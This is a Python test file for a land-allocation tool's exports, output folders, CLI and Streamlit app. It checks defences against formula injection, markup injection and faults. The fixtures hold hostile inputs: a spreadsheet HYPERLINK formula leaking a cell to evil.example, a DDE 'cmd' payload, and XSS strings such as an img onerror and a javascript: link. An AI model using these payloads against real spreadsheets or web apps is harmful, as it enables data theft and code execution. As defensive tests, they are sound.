"""Hardening, round 2 (issue 12): what the exports, the output folders and the command line do with hostile
input and faults. The readers' classes are in the corpus (``tests/data/bad``, ``tests/test_bad_corpus.py``);
these are the classes that need a run: formula injection, all-or-nothing output sets, foreign files in
``--out``, a second run into one folder, strict JSON, the audit copy's TOML, the threads cap, Ctrl-C.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import signal
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import zq_land as zq
from zq_land.cli import main
from zq_land.outputs.tables import FORMULA_START
from zq_land.scenario import dumps_toml

ROOT = Path(__file__).resolve().parents[1]
SITES = ROOT / "parcels" / "zhaoqing_hitech.geojson"
PROJECTS = ROOT / "scenarios" / "projects_2022.csv"
#: Names an attacker (or a careless paste) gives: each would be a live formula or DDE call in a spreadsheet.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def hostile_projects(tmp_path_factory: pytest.TempPathFactory) -> Path:
    df = pd.read_csv(PROJECTS, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    for i, text in enumerate(HOSTILE):
        df.loc[i, "name"] = text
    df.loc[len(HOSTILE), "project_id"] = "=1+2"
    df.loc[len(HOSTILE) + 1, "name"] = "响铃\x07与换页\x0c"
    path = tmp_path_factory.mktemp("hostile") / "projects.csv"
    df.to_csv(path, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_ALL)  # a bare CR would end the row
    return path


@pytest.fixture(scope="module")
def hostile_run(hostile_projects: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("run") / "out"
    assert main(["solve", "--sites", str(SITES), "--projects", str(hostile_projects), "--out", str(out),
                 "--quiet"]) == 0
    return out


# ==============================================================================================
# 1. formula injection, 11. control characters
# ==============================================================================================
def test_no_export_cell_is_a_formula(hostile_run: Path) -> None:
    wb = openpyxl.load_workbook(hostile_run / "assignments.xlsx")
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), cell.value
                    seen += any(h.strip() in cell.value for h in HOSTILE)
    assert seen >= len(HOSTILE), "the hostile names are in the workbook, as text"
    with (hostile_run / "assignments.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 109, "every project has its row"
    for r in rows:
        for v in r.values():
            assert not v.startswith(FORMULA_START), v
    names = {r["project_id"] for r in rows}
    assert "'=1+2" in names, "the id is kept, escaped"


def test_escaped_ids_read_back_as_they_were(hostile_run: Path, hostile_projects: Path, tmp_path: Path) -> None:
    out = tmp_path / "again"
    code = main(["solve", "--sites", str(SITES), "--projects", str(hostile_projects), "--out", str(out),
                 "--start", str(hostile_run / "assignments.csv"), "--quiet"])
    assert code == 0
    assert "=1+2" in set(zq.read_projects(hostile_projects)["project_id"])


def test_control_characters_are_removed_at_reading_with_a_warning(hostile_projects: Path) -> None:
    rep = zq.ValidationReport()
    df = zq.read_projects(hostile_projects, report=rep)
    name = df.loc[len(HOSTILE) + 1, "name"]
    assert name == "响铃与换页"
    assert any("control characters" in p.message_en and p.row == len(HOSTILE) + 3 for p in rep.warnings)


# ==============================================================================================
# 5, 6. output sets: all or nothing, never over a planner's own files, one run at a time
# ==============================================================================================
def test_a_planners_own_files_in_out_are_never_overwritten(tmp_path: Path) -> None:
    out = tmp_path / "inputs"
    out.mkdir()
    own = out / "summary.json"
    own.write_text('{"mine": true}', encoding="utf-8")
    code = main(["solve", "--sites", str(SITES), "--projects", str(PROJECTS), "--out", str(out), "--quiet"])
    assert code == 2
    assert own.read_text(encoding="utf-8") == '{"mine": true}'
    assert sorted(p.name for p in out.iterdir()) == ["summary.json"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["inputs"], "no staging folder or lock left"


def test_a_failed_export_leaves_the_previous_complete_set(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    assert main(["solve", "--sites", str(SITES), "--projects", str(PROJECTS), "--out", str(out), "--quiet"]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    import zq_land.outputs.files as files

    def full_disk(*a: object, **k: object) -> bytes:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(files, "summary_json_bytes", full_disk)  # written after the CSV and the workbook
    small = tmp_path / "small.csv"
    pd.read_csv(PROJECTS, encoding="utf-8-sig").head(20).to_csv(small, index=False, encoding="utf-8-sig")
    code = main(["solve", "--sites", str(SITES), "--projects", str(small), "--out", str(out), "--quiet"])
    assert code == 1
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before, "the previous set, whole"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "small.csv"], "no staging folder left"


def test_a_second_run_into_the_same_folder_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "out"
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)"])
    try:
        (tmp_path / ".out.zq_land.lock").write_text(str(other.pid), encoding="utf-8")
        code = main(["solve", "--sites", str(SITES), "--projects", str(PROJECTS), "--out", str(out), "--quiet"])
        assert code == 2
        assert not out.exists()
    finally:
        other.kill()
        other.wait()
    # the lock of a run that has ended is taken over, and the staging folder a killed run left is removed
    (tmp_path / ".out.k1ll3d.tmp").mkdir()
    assert main(["solve", "--sites", str(SITES), "--projects", str(PROJECTS), "--out", str(out), "--quiet"]) == 0
    assert not (tmp_path / ".out.zq_land.lock").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
    assert {"assignments.csv", "summary.json", ".zq_land_outputs.json"} <= {p.name for p in out.iterdir()}


# ==============================================================================================
# 8. strict JSON, 14. the audit copy's TOML, 2. threads
# ==============================================================================================
def test_summary_json_is_strict(hostile_run: Path) -> None:
    text = (hostile_run / "summary.json").read_text(encoding="utf-8")
    json.loads(text, parse_constant=lambda c: pytest.fail(f"non-standard JSON constant {c}"))
    assert json.loads(zq.strict_json_bytes({"a": math.inf, "b": [math.nan, 1.5]})) == {"a": None, "b": [None, 1.5]}


def test_the_audit_copy_is_valid_toml_with_control_characters_in_keys() -> None:
    sc = zq.scenario_from_dict({"anchors": {"XPeng\x01\x1b[0m\r\n": [112.8, 23.3], 'a"b\\c\t': [112.9, 23.4]}})
    text = dumps_toml(sc.to_dict())
    back = tomllib.loads(text)
    assert set(back["anchors"]) == {"XPeng\x01\x1b[0m\r\n", 'a"b\\c\t'}


def test_threads_are_capped_at_the_machines_cores() -> None:
    sc = zq.scenario_from_dict({"solver": {"threads": 1_000_000_000}})
    assert sc.solver.threads == (os.cpu_count() or 1)


# ==============================================================================================
# 7. Ctrl-C while HiGHS runs: exit 130, a message, no outputs, no abort
# ==============================================================================================
@pytest.fixture(scope="module")
def slow_instance(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    from benchmarks.generate import make_instance, write_instance

    sites, projects = make_instance(1500, 1500, seed=3, tightness=1.3)
    return write_instance(sites, projects, tmp_path_factory.mktemp("slow"), stem="big")


@pytest.mark.parametrize(("sig", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)], ids=["ctrl-c", "sigterm"])
def test_an_interrupted_solve_exits_cleanly_and_keeps_the_previous_set(
    sig: signal.Signals, code: int, slow_instance: tuple[Path, Path], tmp_path: Path
) -> None:
    out = tmp_path / "out"
    assert main(["solve", "--sites", str(SITES), "--projects", str(PROJECTS), "--out", str(out), "--quiet"]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    sp, pp = slow_instance
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    proc = subprocess.Popen([sys.executable, "-m", "zq_land", "solve", "--sites", str(sp), "--projects", str(pp),
                             "--out", str(out), "--time-limit", "60", "--quiet"], cwd=ROOT, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, encoding="utf-8")
    time.sleep(8)
    assert proc.poll() is None, "the solve ended before the signal: make the instance harder"
    proc.send_signal(sig)
    stdout, stderr = proc.communicate(timeout=30)
    assert proc.returncode == code, (proc.returncode, stdout, stderr)
    assert "interrupted" in stderr and "Traceback" not in stderr and "terminate called" not in stderr
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before, "the previous complete set, untouched"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"], "no staging folder or lock left"


def test_workbook_bytes_of_the_app_are_formula_safe(hostile_projects: Path) -> None:
    sites = zq.read_sites(SITES)
    projects = zq.read_projects(hostile_projects)
    result = zq.allocate(zq.Scenario(name="=cmd|' /C calc'!A0"), sites=sites, projects=projects)
    wb = openpyxl.load_workbook(io.BytesIO(zq.workbook_bytes(result, lang="en")))
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


# ==============================================================================================
# 12. the app: user text shown as typed, long upload names, nested TOML uploads
# ==============================================================================================
def test_the_app_renders_user_text_as_text() -> None:
    import re

    from ui.common import plain

    # CommonMark: a backslash before ASCII punctuation makes it a literal character (no link, image, emphasis,
    # code, heading, list, HTML; nor Streamlit's :color[...] / :emoji: / $math$ extensions).
    for hostile in ["![x](http://evil.example/p.png)", "[点我](javascript:alert(1))", "**粗** _斜_ `码`",
                    ":red[红色] :rocket: $x^2$", "<img src=x onerror=alert(1)>", "# 标题\n- 列表", "\\*x\\*",
                    "- 列表", "www.evil.example"]:
        out = plain(hostile)
        assert "\n" not in out
        bare = re.sub(r"\\.", "", out)  # drop every escaped character: nothing active may remain
        assert not re.search(r"[!\[\]*_`:<>$\\]|^[#\-]", bare), (hostile, out)
        assert re.sub(r"\\(.)", r"\1", out) == " ".join(hostile.split()), "shown as typed"
    assert plain("x" * 500).endswith("…") and len(plain("x" * 500)) == 200


def test_a_long_upload_name_and_a_nested_toml_upload_give_messages(private_tmp: Path) -> None:
    from ui.common import short_name
    from ui.data import handle_upload
    from ui.scenario import parse_scenario_toml

    name = "肇庆高新区" * 40 + "项目清单.csv"  # 615 bytes in UTF-8: over the 255-byte limit of a file name
    outcome = handle_upload("projects", name, PROJECTS.read_bytes())
    assert outcome.table is not None and len(outcome.table) == 109, outcome.report.problems
    assert len(short_name(outcome.filename)) <= 60 and short_name(outcome.filename).endswith(".csv")
    scenario, report = parse_scenario_toml("deep.toml", b"x = " + b"[" * 50_000 + b"]" * 50_000)
    assert scenario is None and "nested too deeply" in report.problems[0].message_en


@pytest.fixture
def private_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    import tempfile

    d = tmp_path / "tmpdir"
    d.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(d))
    return d


def test_a_run_interrupted_by_a_rerun_is_started_again() -> None:
    """Switching the language while a solve runs reruns the script; the run must not be lost silently."""
    import dataclasses

    from streamlit.testing.v1 import AppTest

    from ui.scenario import PENDING_RUN

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.run()
    at.session_state["nav"] = "情景"
    at.run()
    at.button(key="btn_run").click().run()
    assert not at.exception, [e.value for e in at.exception]
    first = at.session_state["current_result"]
    data_key = "-".join(first.split("-")[-2:])
    result = at.session_state["results_cache"][first]
    # the state a rerun leaves when it interrupts a run: the run marked pending, its result not kept
    at.session_state[PENDING_RUN] = (dataclasses.replace(result.scenario, name="interrupted run"), data_key)
    at.session_state["lang"] = "en"
    at.run()
    assert not at.exception
    kept = at.session_state["results_cache"][at.session_state["current_result"]]
    assert kept.scenario.name == "interrupted run"
    assert PENDING_RUN not in at.session_state


# ==============================================================================================
# 13. the deadline holds at any size: eligibility looks at the clock
# ==============================================================================================
def test_eligibility_cut_short_by_the_deadline_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    import types

    import zq_land.engine.eligibility as el

    sites, projects = zq.read_sites(SITES), zq.read_projects(PROJECTS)
    monkeypatch.setattr(el, "CHUNK_CELLS", 30 * len(sites))  # chunks of 30 projects
    full = zq.eligible_pairs(sites, projects, zq.Scenario(name="x"))
    cut = zq.eligible_pairs(sites, projects, zq.Scenario(name="x"), deadline=0.0)  # long past
    assert cut.unchecked == len(projects) - 30 and full.unchecked == 0
    first = full.pairs[full.pairs["p"] < 30].reset_index(drop=True)
    pd.testing.assert_frame_equal(cut.pairs, first)
    # through a run: the clock of eligibility is always late
    monkeypatch.setattr(el, "time", types.SimpleNamespace(monotonic=lambda: math.inf))
    result = zq.allocate(zq.Scenario(name="late"), sites=sites, projects=projects)
    assert result.solve.status == "time_limit"
    reasons = result.unplaced.set_index("project_id")["reason_code"]
    assert (reasons == "not_checked").sum() == len(projects) - 30
    assert json.loads(zq.summary_json_bytes(result))["bound"] is None
    assert openpyxl.load_workbook(io.BytesIO(zq.workbook_bytes(result))).sheetnames, "the exports still work"


def test_a_new_set_replaces_the_whole_previous_one(tmp_path: Path) -> None:
    """Files of the previous set that the new one lacks (the alternatives of a run with --alternatives) go."""
    result = zq.allocate(zq.Scenario(name="x"), sites=zq.read_sites(SITES), projects=zq.read_projects(PROJECTS))
    out = tmp_path / "out"
    zq.write_outputs(result, out, extra={"alternatives.csv": b"\xef\xbb\xbfproject_id\n"},
                     summary_extra={"alternatives": {"k": 1}}, map_html=lambda r: "<html></html>")
    assert json.loads((out / "summary.json").read_text(encoding="utf-8"))["alternatives"] == {"k": 1}
    zq.write_outputs(result, out, map_html=lambda r: "<html></html>")
    assert not (out / "alternatives.csv").exists()
    assert "alternatives" not in json.loads((out / "summary.json").read_text(encoding="utf-8"))
